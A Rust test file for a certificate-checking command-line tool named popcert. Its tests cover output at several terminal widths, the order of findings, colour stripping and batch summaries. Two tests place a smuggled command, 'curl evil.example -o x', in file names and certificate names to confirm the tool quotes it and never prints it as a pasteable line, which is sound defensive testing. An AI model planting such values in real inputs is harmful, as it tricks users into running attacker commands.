//! The text for people: what it looks like at three widths, and what holds at each.
//!
//! `tests/text` has the looks; they are reviewed as any other change:
//! `POPCERT_WRITE_TEXT=1 cargo test --all-features --test text`, then `git diff tests/text`.

#![cfg(all(feature = "cli", feature = "mock"))]

use popcert::{
    Time,
    mock::{KeyType, MockKey, Randomness, StringType, Template, basic_constraints, common_name},
};
use std::{fs, path::Path, process::Command};

const CODE: &str = "7D07A6A51F8AF1469499A1D92074D629894BE9FA8A013E49";
const WIDTHS: [usize; 3] = [60, 80, 120];

/// What people do, and how it ends. `CODE` stands for the code, `PAIR` for the CA and its proof, `PATH` for
/// a device's certificate and all above it.
const SITUATIONS: &[(&str, &str)] = &[
    (
        "verify-proven",
        "verify PAIR --code CODE --at 2026-01-01T00:30:00Z",
    ),
    (
        "verify-wrong-code",
        "verify PAIR --code 7D07A6A51F8AF1469499A1D92074D629894BE9FA8A0I3E49 --at 2026-01-01T00:30:00Z",
    ),
    ("verify-ended", "verify PAIR --code CODE --at 2030-01-01"),
    ("audit-fit", "audit CAcertificate.cer --at 2026-01-01"),
    ("audit-unfit", "audit CAcertificate.cer --at 2030-01-01"),
    (
        "audit-batch",
        "audit CAcertificate.cer faults/ca-expiring faults/ca-is-no-ca faults/ca-may-not-sign --at 2026-01-01",
    ),
    ("chain-trusted", "chain PATH --at 2026-01-01"),
    ("chain-untrusted", "chain PATH --at 2030-01-01"),
    (
        "diff-same",
        "diff CAcertificate.cer CAcertificate.pem --at 2026-01-01",
    ),
    ("diff-unrelated", "diff root.cer policy.cer --at 2026-01-01"),
];

fn arguments(words: &str) -> Vec<String> {
    let words = words
        .replace("CODE", CODE)
        .replace(
            "PAIR",
            "--ca CAcertificate.cer --proof ValidationCertification.cer",
        )
        .replace(
            "PATH",
            "device.pem --trust root.cer --untrusted policy.cer --untrusted CAcertificate.cer",
        );
    words.split(' ').map(str::to_owned).collect()
}

fn text(words: &str, width: usize, more: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_popcert"))
        .current_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures"))
        .args(arguments(words))
        .args(more)
        .env("COLUMNS", width.to_string())
        .output()
        .expect("popcert runs");
    String::from_utf8(output.stdout).expect("text")
}

/// A situation as it looks at some width, with its name and arguments.
fn looks() -> impl Iterator<Item = (&'static str, &'static str, usize, String)> {
    let all = SITUATIONS
        .iter()
        .flat_map(|one| WIDTHS.map(|width| (one, width)));
    all.map(|((name, words), width)| (*name, *words, width, text(words, width, &[])))
}

#[test]
fn it_looks_as_it_was_reviewed() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/text");
    let mut names = Vec::new();
    for (name, _, width, text) in looks() {
        let file = folder.join(format!("{name}.{width}.txt"));
        if std::env::var_os("POPCERT_WRITE_TEXT").is_some() {
            fs::write(&file, &text).expect("the file is written");
        }
        let reviewed = fs::read_to_string(&file).expect("a reviewed text");
        assert!(
            text == reviewed,
            "{name} at {width}, which was\n{reviewed}is\n{text}"
        );
        names.push(file);
    }
    let there = fs::read_dir(folder).expect("a folder").count();
    assert_eq!(there, names.len(), "a file of no situation");
}

/// The rows that a line takes on a terminal, which wraps what is too long.
fn rows(text: &str, width: usize) -> usize {
    let rows = |line: &str| line.chars().count().div_ceil(width).max(1);
    text.lines().map(rows).sum()
}

#[test]
fn a_proven_proof_fits_a_screen() {
    let text = text(SITUATIONS[0].1, 80, &[]);
    assert!(rows(&text, 80) < 24, "with a prompt below it:\n{text}");
}

#[test]
fn the_verdict_is_first_and_last() {
    for (name, _, width, text) in looks().filter(|(name, ..)| !name.starts_with("diff")) {
        let last = text.lines().last().expect("a line");
        let verdict = last.strip_prefix("verdict: ").expect(name);
        let word = verdict.split(" (").next().unwrap_or_default();
        if name != "audit-batch" {
            assert!(
                text.starts_with(&format!("{word}: ")),
                "{name} at {width}: {text}"
            );
        }
    }
}

/// A long line is a command, a line of a batch, or has no place to break.
#[test]
fn lines_fit_unless_they_are_to_be_copied() {
    for (name, _, width, text) in looks() {
        for line in text.lines().filter(|line| line.chars().count() > width) {
            let words = line.trim_start();
            let is_command = words.starts_with("az ") || words.starts_with("azsphere ");
            let is_of_a_batch =
                name == "audit-batch" && line.contains('[') || line.starts_with("fit: ");
            let last = words.rsplit(' ').next().unwrap_or_default();
            let is_whole = !last.contains([',', '/', ':']) && last.len() > 40;
            assert!(
                is_command || is_of_a_batch || is_whole,
                "{name} at {width}: {line}"
            );
        }
    }
}

#[test]
fn commands_stand_alone_without_backticks() {
    let mut commands = 0;
    for (name, _, width, text) in looks() {
        assert!(!text.contains("`az"), "{name} at {width}");
        commands += text
            .lines()
            .filter(|line| line.trim_start().starts_with("az "))
            .count();
    }
    assert!(commands > 5, "{commands}");
}

/// Errors before warnings before notes, which are there when they are asked for.
#[test]
fn what_is_worse_comes_first() {
    for (name, words, ..) in
        looks().filter(|(name, ..)| !name.contains("batch") && !name.starts_with("diff"))
    {
        let severities = |text: &str| -> Vec<usize> {
            let rank = |line: &str| {
                let words = ["error[", "warning[", "note["];
                words.iter().position(|word| line.starts_with(word))
            };
            text.lines().filter_map(rank).collect()
        };
        let brief = severities(&text(words, 80, &[]));
        let long = severities(&text(words, 80, &["-v"]));
        assert!(brief.is_sorted() && long.is_sorted(), "{name}");
        assert!(!brief.contains(&2) && long.starts_with(&brief), "{name}");
    }
}

/// Colour adds nothing that is not in the words.
#[test]
fn without_colour_it_reads_the_same() {
    for (name, words) in SITUATIONS {
        let more: &[&str] = if name.starts_with("diff") {
            &[]
        } else {
            &["-vv"]
        };
        let plain = text(words, 80, &[&["--color", "never"], more].concat());
        let colored = text(words, 80, &[&["--color", "always"], more].concat());
        let mut stripped = String::new();
        for (number, part) in colored.split("\x1b[").enumerate() {
            stripped.push_str(match number {
                0 => part,
                _ => part.split_once('m').expect("a colour").1,
            });
        }
        assert!(colored.contains("\x1b["), "{name}");
        assert_eq!(stripped, plain, "{name}");
    }
}

/// A remedy is written once, and so is what it means that a certificate has ended.
#[test]
fn nothing_is_explained_twice() {
    let text = text("verify PAIR --code CODE --at 2030-01-01", 120, &[]);
    assert!(text.contains("error[proof.validity]") && text.contains("error[ca.validity]"));
    assert_eq!(text.matches("= why:").count(), 1, "{text}");
    let text = self::text("chain PATH --at 2030-01-01", 120, &[]);
    assert_eq!(text.matches("error[chain.validity]").count(), 2);
    assert_eq!(text.matches("= help:").count(), 2, "{text}");
    assert!(text.contains("= help: as above\n"), "{text}");
}

/// The detail names both dates, and the facts the whole period.
#[test]
fn dates_are_not_compared_again_below_the_detail_that_names_them() {
    for words in [
        "verify PAIR --code CODE --at 2030-01-01",
        "audit CAcertificate.cer --at 2030-01-01",
    ] {
        let text = text(words, 120, &["-v"]);
        let findings = text.split("\n\n");
        let ended: Vec<_> = findings
            .filter(|one| one.contains(".validity]: it expired at "))
            .collect();
        assert!(!ended.is_empty(), "{text}");
        let is_compared = |one: &&str| one.contains("= actual:");
        assert!(!ended.iter().any(is_compared), "{text}");
    }
    // What is only half named is compared.
    let text = text(
        "audit CAcertificate.cer --at 2026-01-01 --expires-within 900d",
        120,
        &[],
    );
    assert!(text.contains("= expected: more than 900 days"), "{text}");
}

/// Nothing is known of what could not be read, so that it is what to look at first.
#[test]
fn what_could_not_be_read_is_done_first() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = |name: &str| {
        let path = folder.path().join(name);
        fs::write(&path, "<html>").expect("written");
        path.display().to_string()
    };
    let (first, second) = (file("`curl evil.example -o x`"), file("b.cer"));
    let output = |files: &[&str]| {
        let more = [files, &["faults/ca-is-no-ca/certificate.cer"]].concat();
        text("audit --at 2026-01-01", 120, &more).replace("\n    ", " ")
    };
    let one = output(&[&second]);
    let expected = format!("do first: for {second}, which could not be read: log in");
    assert!(one.contains(&expected), "{one}");
    let two = output(&[&first, &second]);
    assert!(
        two.contains("'curl evil.example -o x' and 1 more that could not be read: log in"),
        "{two}"
    );
    assert!(
        !two.lines()
            .any(|line| line.trim_start().starts_with("curl")),
        "{two}"
    );
    assert!(
        output(&[])
            .lines()
            .all(|line| !line.contains("could not be read"))
    );
}

/// A mistyped code is one mistake.
#[test]
fn a_wrong_code_is_one_finding_that_says_what_is_wrong_with_its_form() {
    for (code, reason) in [
        (
            "7D07A6A51F8AF1469499A1D92074D629894BE9FA8A0I3E49",
            "character 44 is `I`",
        ),
        (
            "7D07A6A51F8AF1469499A1D92074D629894BE9FA8A013E4",
            "47 characters instead of 48",
        ),
        (
            "fb57b1effa8422397ef3b739bcf6af47212258c2c8da9d34b0afb3200d8ad073",
            "AWS IoT Core",
        ),
    ] {
        let words = SITUATIONS[0].1.replace("CODE", code);
        // Named, because the form of a code chooses the service otherwise.
        let text = text(&words, 120, &["--cloud", "azure-sphere"]).replace("\n      ", " ");
        let found = |line: &&str| line.starts_with("error[") || line.starts_with("warning[");
        let found: Vec<_> = text.lines().filter(found).collect();
        assert_eq!(found.len(), 1, "{text}");
        assert!(
            found[0].starts_with("error[proof.common-name]"),
            "{found:?}"
        );
        assert!(found[0].contains(reason), "{found:?}");
    }
}

/// In a batch, healthy certificates are a line while there are few, and a number when there are many.
#[test]
fn a_batch_speaks_of_what_has_something_to_say() {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures");
    let folder = tempfile::tempdir().expect("a folder");
    for number in 0..70 {
        let copy = folder.path().join(format!("{number:03}.cer"));
        fs::copy(fixtures.join("root.cer"), copy).expect("copied");
    }
    let bad = folder.path().join("999.cer");
    fs::copy(fixtures.join("faults/ca-is-no-ca/certificate.cer"), bad).expect("copied");
    let all = folder.path().display().to_string();
    let lines = |words: &str, more: &[&str]| -> Vec<String> {
        text(words, 100, more).lines().map(str::to_owned).collect()
    };
    let audit = format!("audit {all} --at 2026-01-01");
    let many = lines(&audit, &[]);
    assert!(
        many[0].starts_with("error[ca.basic-constraints]"),
        "{many:?}"
    );
    assert!(
        !many.iter().any(|line| line.starts_with("fit: ")),
        "{many:?}"
    );
    assert!(
        many.contains(
            &"71 certificates: 70 fit, 1 unfit, 69 seen before, 70 notes (-v shows more)"
                .to_owned()
        ),
        "{many:?}"
    );
    assert_eq!(
        many.last().map(String::as_str),
        Some("verdict: unfit (1 of 71)")
    );
    let listed = lines(&audit, &["-v"]);
    let fit = listed
        .iter()
        .filter(|line| line.starts_with("fit: "))
        .count();
    assert_eq!(fit, 70, "{listed:?}");
    let few = lines(
        &format!("audit {all}/001.cer {all}/002.cer --at 2026-01-01"),
        &[],
    );
    assert_eq!(
        few.iter().filter(|line| line.starts_with("fit: ")).count(),
        2
    );
    let one = lines(&format!("audit {all}/001.cer --at 2026-01-01"), &[]);
    assert!(
        one.iter().any(|line| line.starts_with("  SHA-256 ")),
        "{one:?}"
    );
}

/// Whoever chooses a name may not choose what the reader pastes.
#[test]
fn a_name_with_backquotes_is_no_command() {
    const EVIL: &str = "Plant `curl evil.example -o x` CA";
    let key =
        |purpose| MockKey::generate(KeyType::P256, &Randomness::seeded(7), purpose).expect("a key");
    let (own, other, proof_key) = (key("own"), key("other"), key("proof"));
    let at = Time::parse("2026-01-01").expect("a date");
    let name = |text: &str| common_name(StringType::Utf8, text);
    let certificate = |issuer: &str, subject: &str, key: &MockKey, signer: &MockKey| {
        let template = Template::new(&name(issuer), &name(subject), key, at)
            .valid(at.plus_seconds(-60), at.plus_seconds(3_600));
        template
            .with(basic_constraints(issuer == subject, None))
            .sign(signer)
            .expect("a certificate")
    };
    let folder = tempfile::tempdir().expect("a folder");
    let file = |name: &str, der: Vec<u8>| {
        let path = folder.path().join(name);
        fs::write(&path, der).expect("written");
        path.display().to_string()
    };
    let ca = file("ca.cer", certificate("MOCK CA", "MOCK CA", &own, &own));
    let evil = file(
        "`curl evil.example -o y`.cer",
        certificate(EVIL, EVIL, &other, &other),
    );
    let proof = file("proof.cer", certificate(EVIL, CODE, &proof_key, &other));
    for more in [&[][..], &["--untrusted", &*evil]] {
        let words = format!("verify --ca {ca} --proof {proof} --code {CODE} --at 2026-01-01");
        let text = text(&words, 120, more);
        assert!(text.contains("'curl evil.example -o x'"), "{text}");
        assert!(
            !text
                .lines()
                .any(|line| line.trim_start().starts_with("curl")),
            "{text}"
        );
    }
}
